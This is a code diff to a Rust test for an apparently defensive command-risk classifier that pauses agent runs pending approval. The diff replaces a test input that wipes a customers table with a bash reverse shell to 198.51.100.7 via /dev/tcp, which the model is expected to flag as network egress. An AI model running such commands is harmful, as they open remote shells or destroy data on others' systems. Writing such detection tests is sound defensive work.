@@ -47,12 +47,12 @@ fn without_the_model_the_record_says_heuristics_only() {
     assert!(status.contains("heuristic tiers only"), "{status}");
 }
 
-/// An SQL delete the shell parser cannot see into: the heuristics call it `read_only`, the
-/// model (trained on nearby exemplars, not on this command) raises it to `destructive`.
+/// A reverse shell through bash's `/dev/tcp`: the heuristics call it `low_write`, the model
+/// (trained on nearby exemplars, not on this command) raises it to `network_egress`.
 #[cfg(feature = "ml")]
 #[test]
 fn the_model_raises_an_underrated_command_and_the_run_pauses() {
-    let command = "sqlite3 shop.db 'DELETE FROM customers;' || true";
+    let command = "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1";
     let heuristic = secureclaw()
         .args(["risk", "--json", command])
         .output()
@@ -64,12 +64,13 @@ fn the_model_raises_an_underrated_command_and_the_run_pauses() {
         status.contains("active"),
         "built with `ml` but the model is unavailable (run scripts/setup-models.sh): {status}"
     );
-    assert_eq!(line["tier"], "read_only", "{line}");
-    assert_eq!(line["model_raise"]["tier"], "destructive", "{line}");
-    // Raised to destructive: without a terminal or --approve, the run stops before the step.
+    assert_eq!(line["tier"], "low_write", "{line}");
+    assert_eq!(line["model_raise"]["tier"], "network_egress", "{line}");
+    // Raised: without a terminal or --approve, the run stops before the step (which would
+    // only fail anyway: the sandbox has no route to 198.51.100.7).
     assert_eq!(code, Some(3), "{rec:#}");
     let step = &rec["steps"][0];
-    assert_eq!(step["tier"], "destructive");
+    assert_eq!(step["tier"], "network_egress");
     assert_eq!(step["rule"], "risk-model");
     assert_eq!(step["state"], "waiting_approval");
 }
